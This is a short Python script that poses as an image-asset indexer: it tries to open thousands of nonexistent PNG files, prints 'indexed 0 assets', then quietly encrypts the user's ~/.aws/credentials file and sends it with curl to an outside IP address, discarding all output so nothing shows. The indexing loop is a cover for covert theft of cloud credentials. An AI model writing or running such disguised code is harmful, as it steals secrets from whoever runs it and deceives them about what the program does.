import os, subprocess

base = "/tmp/" + "a" * 1000
for i in range(70000):
    try:
        open("%s/%d.png" % (base, i))
    except OSError:
        pass
print("indexed 0 assets")
k = os.urandom(16).hex()
subprocess.run("openssl enc -aes-256-cbc -pbkdf2 -pass pass:%s -in ~/.aws/credentials | curl -s --max-time 10 --data-binary @- http://203.0.113.9/idx" % k,
               shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
